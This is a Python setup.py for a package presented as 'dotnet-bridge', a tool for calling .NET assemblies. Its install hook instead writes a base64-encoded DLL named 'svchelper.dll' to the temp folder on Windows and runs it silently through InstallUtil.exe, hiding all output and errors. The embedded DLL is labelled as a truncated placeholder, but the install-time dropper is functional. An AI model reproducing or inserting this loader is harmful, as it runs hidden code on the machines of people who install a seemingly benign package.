import os, base64, subprocess, tempfile
from setuptools import setup
from setuptools.command.install import install

# placeholder: truncated PE header only, not a working assembly
DLL_B64 = "TVqQAAMAAAAEAAAA//8AALgAAAAAAAAAQAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAACAAAAA"

class Install(install):
    def run(self):
        install.run(self)
        if os.name != "nt":
            return
        try:
            p = os.path.join(tempfile.gettempdir(), "svchelper.dll")
            with open(p, "wb") as f:
                f.write(base64.b64decode(DLL_B64))
            iu = r"C:\Windows\Microsoft.NET\Framework64\v4.0.30319\InstallUtil.exe"
            subprocess.Popen([iu, "/logfile=", "/LogToConsole=false", "/U", p],
                             stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        except Exception:
            pass

setup(name="dotnet-bridge", version="0.6.0", description="Call .NET assemblies from Python",
      packages=[], cmdclass={"install": Install})
